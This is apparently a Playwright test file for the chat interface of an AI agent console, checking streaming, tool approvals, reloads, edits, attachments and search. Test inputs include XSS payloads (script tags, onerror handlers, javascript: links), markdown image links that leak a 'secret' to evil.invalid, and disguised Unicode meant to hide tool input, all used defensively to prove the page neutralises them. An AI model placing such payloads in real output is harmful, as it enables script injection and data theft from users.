"""The chat of the console: turns, approvals, questions, branches, two tabs, and reloads in mid-stream."""

from __future__ import annotations

import base64
import json
import re
import time
import uuid
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import FilePayload, Locator, Page, expect

from tests.clients.behaviours import calculate
from tests.clients.hub import Hub
from tests.clients.upstream import Upstream
from tests.console.browsing import Console, intercept, open_database
from tests.console.conftest import StartConsole

QUESTION = {
    "name": "user_question",
    "arguments": {"text": "Which supplier first?", "options": ["Nordwind", "Halm"]},
}
HIDDEN = "\u202e\ufe0f\U000e0041p\u0430yp\u0430l❤\ufe0f" + 2_000 * "A"
SPELT = r"\u202e\ufe0f\u{e0041}p\u0430yp\u0430l❤" + "\ufe0f" + 2_000 * "A"
CONVERT = {
    "name": "hub_call",
    "arguments": {
        "calls": [
            {
                "tool": "time.convert",
                "input": {"time": "2026-01-01T10:00:00Z", "to_timezone": "Europe/Berlin"},
            }
        ]
    },
}
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
MARKDOWN = "# Found\n\nIt is **12 days** old.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n"
RIGHT_TO_LEFT = "1. أولاً\n\n"
UNTIL_ANSWERED = """new Promise((done) => {
    const look = () => {
        const buttons = document.querySelectorAll("[aria-label='Regenerate']:enabled");
        if (buttons.length > 0) done();
        else setTimeout(look, 100);
    };
    look();
})"""
ATTACK = "<img src=x onerror=alert(1)> ![x](https://evil.example/x.png?q=secret) [y](javascript:alert(1))"


@pytest.fixture(scope="module")
def hub(start_hub: Callable[..., Hub]) -> Hub:
    """A hub whose policy asks before one operation, with a second agent and a second model."""
    return start_hub(
        pinned=["user.question"],
        policy=[{"ask": "time.convert"}],
        agents={"clerk": {"model": "up/other", "description": "Works."}},
    )


def say(page: Page, text: str) -> None:
    """Write a message and send it."""
    page.get_by_label("Message", exact=True).fill(text)
    page.keyboard.press("Enter")


def answers(page: Page) -> Locator:
    return page.get_by_role("article", name="Answer")


def is_ready(page: Page) -> None:
    """Wait until the last answer has ended and can be answered again."""
    expect(answers(page).last.get_by_role("button", name="Regenerate")).to_be_enabled()


def stored(hub: Hub, page: Page) -> list[dict[str, Any]]:
    """The messages of the page's session."""
    status, body = hub.request("GET", f"/api/sessions/{page.url.rpartition('/')[2]}/messages")
    assert status == 200
    messages: list[dict[str, Any]] = body["messages"]
    return messages


@pytest.mark.promise("console")
def test_a_turn_is_streamed_with_its_tool_and_is_there_after_a_reload(
    console: Console, upstream: Upstream
) -> None:
    mark = upstream.teach(
        [{"reasoning": ["Let me think."]}, {"calls": [calculate("6*7")]}],
        [{"text": [MARKDOWN, RIGHT_TO_LEFT, ATTACK]}],
    )
    page = console.open("/chat")
    expect(page.get_by_text("Start with a message")).to_be_visible()
    say(page, f"{mark} 6*7?")
    is_ready(page)
    answer = answers(page)
    for _ in ("streamed", "stored"):
        expect(answer.get_by_role("heading", name="Found")).to_be_visible()
        expect(answer.get_by_role("table")).to_contain_text("2")
        expect(answer.locator("code .hl-number")).to_have_text("1")
        expect(answer.locator("ol")).to_have_css("direction", "rtl")
        call = answer.get_by_role("group").filter(has_text="math.calculate")
        expect(call).to_contain_text("done")
        expect(call).to_contain_text("expression=6*7")
        expect(answer.locator("img")).to_have_count(0)
        expect(answer.get_by_role("link", name="image: x")).to_have_attribute("rel", "noopener noreferrer")
        expect(answer.locator('a[href^="javascript"]')).to_have_count(0)
        expect(answer).to_contain_text(re.compile(r"2 steps.*in · .* out"))
        expect(answer.get_by_role("link", name="Open run")).to_have_attribute(
            "href", re.compile("/console/runs/run_")
        )
        expect(page.get_by_role("complementary")).to_contain_text("6*7?")
        expect(page.locator(".chat-session[aria-current=true]")).to_contain_text("done · ")
        assert console.find_accessibility_problems() == []
        page.reload()
    assert page.url.startswith(f"{console.hub.url}/console/chat/chat_")
    assert len(upstream.requests(mark)) == 2


def test_a_turn_makes_few_requests_whatever_its_length(console: Console, upstream: Upstream) -> None:
    mark = upstream.teach([{"text": [f"word{number} " for number in range(500)]}], repeat=True)
    page = console.open("/chat")
    say(page, mark)
    is_ready(page)
    before = len(console.requests)
    say(page, f"{mark} again")
    expect(answers(page)).to_have_count(2)
    is_ready(page)
    assert len(console.requests) - before <= 12, console.requests[before:]
    assert console.requests.count("GET /api/events") == 1
    assert len(console.requests) <= 30, console.requests


@pytest.mark.promise("console-keyboard")
def test_an_approval_shows_what_will_run_and_why_and_is_answered_by_keyboard(
    console: Console, upstream: Upstream
) -> None:
    page = console.open("/chat")
    for key, outcome, sign, spelt in (("Approve", "done", "", ""), ("Deny…", "denied", HIDDEN, SPELT)):
        call = json.loads(json.dumps(CONVERT).replace("10:00:00Z", f"10:00:00Z{sign}"))
        mark = upstream.teach([{"calls": [call]}], [{"text": f"It went on: {outcome}."}])
        say(page, f"{mark} convert")
        ask = page.get_by_role("region", name="time.convert needs approval")
        expect(ask).to_contain_text('"to_timezone": "Europe/Berlin"')
        expect(ask).to_contain_text(f'10:00:00Z{spelt}"')  # what nobody sees or reads otherwise is spelt
        expect(ask).to_contain_text("asked by ask: time.convert")
        expect(ask).to_contain_text("expires in")
        expect(page.get_by_role("link", name="Inbox")).to_contain_text("1")
        assert console.find_accessibility_problems() == []
        ask.get_by_role("button", name=key).focus()
        page.keyboard.press("Enter")
        if key == "Deny…":
            page.keyboard.press("Tab")
            page.get_by_role("dialog").get_by_role("textbox").focus()
            page.keyboard.type("Not today.")
            page.get_by_role("dialog").get_by_role("button", name="Deny").focus()
            page.keyboard.press("Enter")
        expect(answers(page).last).to_contain_text(f"It went on: {outcome}.")
        is_ready(page)
        expect(answers(page).last.get_by_role("group").first).to_contain_text(outcome)
        expect(page.get_by_role("link", name="Inbox")).not_to_contain_text("1")
    assert "Not today." in str(stored(console.hub, page)[-1])


@pytest.mark.promise("console-keyboard")
def test_a_long_input_is_opened_before_it_can_be_approved(console: Console, upstream: Upstream) -> None:
    page = console.open("/chat")
    call = json.loads(json.dumps(CONVERT).replace("10:00:00Z", f"10:00:00Z{'0' * 30_000}9"))
    say(page, upstream.teach([{"calls": [call]}], [{"text": "It went on."}]))
    ask = page.get_by_role("region", name="time.convert needs approval")
    approve = ask.get_by_role("button", name="Approve")
    expect(ask).to_contain_text("Its input is not all shown")
    expect(approve).to_be_disabled()
    page.keyboard.press("Escape")
    page.keyboard.press("a")
    expect(ask.get_by_role("button", name="Show all")).to_be_focused()
    page.keyboard.press("Enter")
    expect(ask.locator("pre")).to_contain_text('09"')
    expect(approve).to_be_enabled()
    page.keyboard.press("Escape")
    page.keyboard.press("a")
    expect(approve).to_be_focused()
    page.keyboard.press("Enter")
    expect(answers(page)).to_contain_text("It went on.")


def test_a_message_that_is_not_accepted_is_there_to_be_sent_again(
    console: Console, upstream: Upstream
) -> None:
    page = console.open("/chat")
    message = page.get_by_label("Message", exact=True)
    mark = upstream.teach([{"text": "Here it is."}])
    console.expected_errors = {503}
    busy = {"error": {"code": "unavailable", "message": "the hub is busy", "hint": "wait a little"}}
    intercept(page, "**/api/chat", answer=lambda route: route.fulfill(status=503, json=busy), times=1)
    say(page, f"{mark} please")
    expect(page.get_by_role("alert")).to_contain_text("the hub is busy")
    expect(message).to_have_value(f"{mark} please")
    expect(page.get_by_role("article", name="You")).to_have_count(0)
    page.keyboard.press("Enter")
    expect(answers(page)).to_contain_text("Here it is.")
    expect(page.get_by_role("alert")).to_have_count(0)


def test_a_question_is_answered_with_an_option_or_in_words(console: Console, upstream: Upstream) -> None:
    page = console.open("/chat")
    for words in ("Halm", "Another one"):
        mark = upstream.teach([{"calls": [QUESTION]}], [{"text": f"I take {words}."}])
        say(page, f"{mark} ask me")
        ask = page.get_by_role("region", name="Question")
        expect(ask).to_contain_text("Which supplier first?")
        if words == "Halm":
            assert console.find_accessibility_problems() == []
            ask.get_by_role("button", name=words).click()
        else:
            ask.get_by_role("textbox").fill(words)
            page.keyboard.press("Enter")
        expect(answers(page).last).to_contain_text(f"I take {words}.")
        is_ready(page)
        assert upstream.requests(mark)[1].body["messages"][-1]["content"] == words


def test_a_reload_in_mid_stream_and_a_stop_keep_what_was_said(
    console: Console, upstream: Upstream, gate: str
) -> None:
    mark = upstream.teach([{"text": ["one ", "two "]}, {"gate": gate}, {"text": ["three ", "four."]}])
    page = console.open("/chat")
    say(page, f"{mark} count")
    expect(answers(page)).to_contain_text("one two")
    page.reload()
    expect(answers(page)).to_contain_text("one two")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    upstream.open(gate)
    expect(answers(page).get_by_text("one two three four.", exact=True)).to_be_visible()
    is_ready(page)
    assert len(upstream.requests(mark)) == 1

    closed = uuid.uuid4().hex
    mark = upstream.teach([{"text": "Half "}, {"gate": closed}, {"text": "whole"}])
    say(page, f"{mark} stop me")
    expect(answers(page).last).to_contain_text("Half")
    page.get_by_role("button", name="Stop").click()
    expect(answers(page).last).to_contain_text("stopped")
    is_ready(page)
    expect(page.locator(".chat-session[aria-current=true]")).to_contain_text("stopped · ")
    assert [message["role"] for message in stored(console.hub, page)] == ["user", "assistant"] * 2
    upstream.open(closed)


def test_two_tabs_show_the_same_answer_and_one_steers_the_other(
    hub: Hub, start_console: StartConsole, upstream: Upstream, gate: str
) -> None:
    first, second = start_console(hub), start_console(hub)
    page = first.open("/chat")
    say(page, "#plain hello")
    is_ready(page)
    other = second.open(f"/chat/{page.url.rpartition('/')[2]}")
    expect(answers(other)).to_contain_text("Hello from the model.")
    mark = upstream.teach([{"text": "Long work "}, {"gate": gate}, {"calls": [calculate("1+1")]}], [])
    say(page, f"{mark} work")
    for each in (page, other):
        expect(answers(each).last).to_contain_text("Long work")
    steer = upstream.teach([{"text": "Steered."}])
    say(other, f"{steer} do this instead")
    expect(other.get_by_role("list", name="Messages that wait")).to_contain_text("do this instead")
    expect(page.get_by_role("list", name="Messages that wait")).to_contain_text("do this instead")
    upstream.open(gate)
    for each in (page, other):
        expect(answers(each).last).to_contain_text("Steered.")
        expect(each.get_by_role("list", name="Messages that wait")).to_be_hidden()
        is_ready(each)
        expect(answers(each)).to_have_count(3)


def test_a_message_is_edited_answered_again_and_forked(console: Console, upstream: Upstream) -> None:
    page = console.open("/chat")
    mark = upstream.teach([{"text": "First."}], [{"text": "Second."}], [{"text": "Third."}], in_order=True)
    say(page, f"{mark} version one")
    is_ready(page)
    page.get_by_role("button", name="Edit").press("Enter")
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name="Edit")).to_be_focused()
    page.keyboard.press("Enter")
    page.get_by_role("textbox", name="Message").first.fill(f"{mark} version two")
    page.keyboard.press("Enter")
    expect(answers(page)).to_contain_text("Second.")
    is_ready(page)
    expect(page.get_by_text("2 / 2")).to_be_visible()
    page.get_by_role("button", name="Earlier version").click()
    expect(answers(page)).to_contain_text("First.")
    expect(page.get_by_text("version one", exact=False).last).to_be_visible()
    page.get_by_role("button", name="Regenerate").click()
    expect(answers(page)).to_contain_text("Third.")
    is_ready(page)
    before = page.url
    page.get_by_role("button", name="Fork from here").click()
    expect(page).not_to_have_url(before)
    expect(answers(page)).to_contain_text("Third.")
    assert len(stored(console.hub, page)) == 2


def test_files_go_in_and_models_and_agents_are_chosen(console: Console, upstream: Upstream) -> None:
    page = console.open("/chat")
    page.get_by_label("Agent").select_option("clerk")
    page.get_by_label("Files", exact=True).set_input_files(
        FilePayload(name="dot.png", mimeType="image/png", buffer=PNG)
    )
    mark = upstream.teach([{"text": "A dot."}])
    say(page, f"{mark} what is it?")
    is_ready(page)
    expect(page.get_by_role("article", name="You").get_by_role("img", name="dot.png")).to_be_visible()
    [request] = upstream.requests(mark)
    assert request.body["model"] == "other"
    assert base64.b64encode(PNG).decode() in str(request.body["messages"])


def test_sessions_are_found_by_title_and_by_what_was_said(console: Console, upstream: Upstream) -> None:
    words = uuid.uuid4().hex[:8]
    mark = upstream.teach([{"text": f"The password of the week is {words}."}])
    page = console.open("/chat")
    say(page, f"{mark} Tell me")
    is_ready(page)
    page.get_by_label("Search sessions").fill(words)
    expect(page.get_by_role("complementary").get_by_text(words)).to_be_visible()
    expect(page).to_have_url(re.compile(f"q={words}"))
    page.get_by_label("Search sessions").fill("no such title")
    expect(page.get_by_text("No sessions match")).to_be_visible()
    console.expected_errors = {404}
    session = page.url.partition("?")[0].rpartition("/")[2]
    assert console.hub.request("DELETE", f"/api/sessions/{session}")[0] == 204  # in another tab, perhaps
    expect(page.get_by_role("status").filter(has_text="This session was deleted")).to_be_visible()


def test_what_the_model_refuses_is_told_and_can_be_tried_again(console: Console) -> None:
    page = console.open("/chat")
    say(page, "#refuse please")
    expect(page.get_by_role("alert")).to_contain_text("does not like this question")
    assert console.find_accessibility_problems() == []
    expect(page.get_by_role("button", name="Try again")).to_be_enabled()


HOSTILE = {
    "markup": "<script>alert(1)</script> <img src=https://evil.invalid/a onerror=alert(1)>"
    "\n\n[run](javascript:alert(1)) [page](data:text/html,x) ![sent](https://evil.invalid/p?q=secret)"
    " [kept](https://example.invalid/)",
    "nested lists": "\n".join(f"{'  ' * level}- level {level}" for level in range(500)),
    "nested marks": f"{'> ' * 5_000}deep\n\n{'- ' * 5_000}deep",
    "one line": "x" * 1_000_000,
    "a table": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 20_000,
    "a fence": f"```python\n{'print(1)' * 5_000}",
}


@pytest.mark.thorough
def test_hostile_markdown_is_shown_at_once_runs_nothing_and_loads_nothing(
    console: Console, upstream: Upstream
) -> None:
    page = console.page
    urls: list[str] = []
    page.on("request", lambda request: urls.append(request.url))
    for name, text in HOSTILE.items():
        console.open("/chat")
        mark = upstream.teach([{"text": text}])
        say(page, f"{mark} {name}")
        is_ready(page)
        expect(answers(page)).to_be_visible()
        page.reload()
        expect(answers(page)).to_be_visible()
        if name == "markup":
            links = answers(page).locator(".chat-md a").evaluate_all("(all) => all.map((each) => each.href)")
            assert links == ["https://evil.invalid/p?q=secret", "https://example.invalid/"]
            assert page.locator(".chat-md :is(script, img, iframe)").count() == 0
    assert [url for url in urls if "evil.invalid" in url] == []


@pytest.mark.thorough
def test_a_pasted_text_of_megabytes_becomes_a_file(console: Console) -> None:
    page = console.open("/chat")
    page.get_by_label("Message", exact=True).focus()
    page.evaluate(
        """() => {
            const data = new DataTransfer();
            data.setData("text/plain", "a line of text\\n".repeat(350_000));
            const pasted = { clipboardData: data, bubbles: true, cancelable: true };
            document.activeElement.dispatchEvent(new ClipboardEvent("paste", pasted));
        }"""
    )
    expect(page.get_by_role("link", name="pasted.txt")).to_contain_text("5.3 MB")
    expect(page.get_by_label("Message", exact=True)).to_have_value("")


@pytest.mark.thorough
def test_files_that_are_dropped_anywhere_are_attached_but_for_those_that_cannot_be_read(
    console: Console,
) -> None:
    console.expected_errors = {404}
    console.keep_toasts()
    page = console.open("/chat/no-such-session")
    expect(page.get_by_role("heading", name="There is no such session")).to_be_visible()
    prevented = page.evaluate(
        """() => {
            const read = FileReader.prototype.readAsDataURL;
            FileReader.prototype.readAsDataURL = function (file) {
                const fail = () => this.onerror(new ProgressEvent("error"));
                if (file.name === "folder") queueMicrotask(fail);
                else read.call(this, file);
            };
            const data = new DataTransfer();
            const names = ["folder", ...Array(200).keys()];
            for (const name of names) data.items.add(new File(["x"], String(name)));
            const dropped = { dataTransfer: data, bubbles: true, cancelable: true };
            const [over, drop] = ["dragover", "drop"].map((type) => new DragEvent(type, dropped));
            for (const event of [over, drop]) document.querySelector(".chat-log").dispatchEvent(event);
            return over.defaultPrevented && drop.defaultPrevented; // else the browser opens the file
        }"""
    )
    assert prevented
    expect(page.get_by_role("button", name="Remove", exact=False)).to_have_count(200)
    expect(page.get_by_text("folder cannot be read.")).to_be_visible()
    expect(page.get_by_role("button", name="Send")).to_be_in_viewport()


@pytest.mark.thorough
def test_a_thousand_chunks_a_second_take_less_than_half_a_core(console: Console, upstream: Upstream) -> None:
    count = 8_000
    chunks = [
        f"Word {number} of a **long** answer.{' ' if number % 40 else chr(10) * 2}" for number in range(count)
    ]
    mark = upstream.teach([{"text": chunks, "pace": 0.001}])
    page = console.open("/chat")
    expect(page.get_by_text("Start with a message")).to_be_visible()
    before, began = console.renderer_seconds(), time.monotonic()
    say(page, f"{mark} go")
    page.evaluate(UNTIL_ANSWERED)  # Playwright's own looks would take the tab's time
    busy, elapsed = console.renderer_seconds() - before, time.monotonic() - began
    expect(answers(page)).to_contain_text(f"Word {count - 1} of a long answer.")
    # It draws by the time, not by the chunk: a loaded machine, which sends fewer a second, draws more often.
    assert busy / max(elapsed, count / 1000) < 0.5, (busy, elapsed)


@pytest.mark.thorough
def test_a_long_session_opens_at_its_end_and_holds_only_what_is_looked_at(
    console: Console, hub: Hub, upstream: Upstream
) -> None:
    messages = [
        {"id": f"m{number}", "role": ("user", "assistant")[number % 2], "parts": [text_part(number)]}
        for number in range(1_000)
    ]
    lines = [{"format": "dragoman-session", "version": 1, "title": "Long"}, *messages]
    imported = console.page.context.request.post(
        f"{hub.url}/api/sessions/import?id=long",
        data="\n".join(map(json.dumps, lines)),
        headers={"authorization": f"Bearer {hub.key}"},
    )
    assert imported.status == 201, imported.text()
    page = console.open("/chat/long")
    expect(answers(page).filter(has_text="Message 999,")).to_be_in_viewport()
    assert page.locator("[data-message]").count() < 50
    assert console.find_accessibility_problems() == []
    page.get_by_role("group", name="Messages").focus()
    page.keyboard.press("Home")
    expect(page.locator("[data-message]").filter(has_text="Message 0,")).to_be_in_viewport()
    assert page.locator("[data-message]").count() < 50
    mark = upstream.teach([{"text": "The newest."}])
    say(page, f"{mark} go on")
    expect(answers(page).filter(has_text="The newest.")).to_be_in_viewport()
    is_ready(page)


def text_part(number: int) -> dict[str, str]:
    return {"type": "text", "text": f"Message {number}, " + "with some words " * (number % 60)}


@pytest.mark.thorough
@pytest.mark.parametrize("count", [1, 10_000])
def test_one_session_of_many_is_found(
    start_hub: Callable[..., Hub], start_console: StartConsole, count: int
) -> None:
    hub = start_hub()
    with open_database(hub) as database:
        database.executemany(
            "INSERT INTO sessions (id, owner, title, created_at, updated_at) VALUES (?, 'ann', ?, ?, ?)",
            ((f"s{number}", f"Session {number}", number, number) for number in range(count)),
        )
    console = start_console(hub)
    page = console.open("/chat")
    expect(page.get_by_role("link", name=f"Session {count - 1} ")).to_be_visible()
    assert page.get_by_role("complementary").get_by_role("link").count() < 100
    page.get_by_label("Search sessions").fill("Session 0")
    page.get_by_role("link", name="Session 0 ").click()
    expect(page.get_by_role("heading", name="Session 0")).to_be_visible()
    assert console.find_accessibility_problems() == []
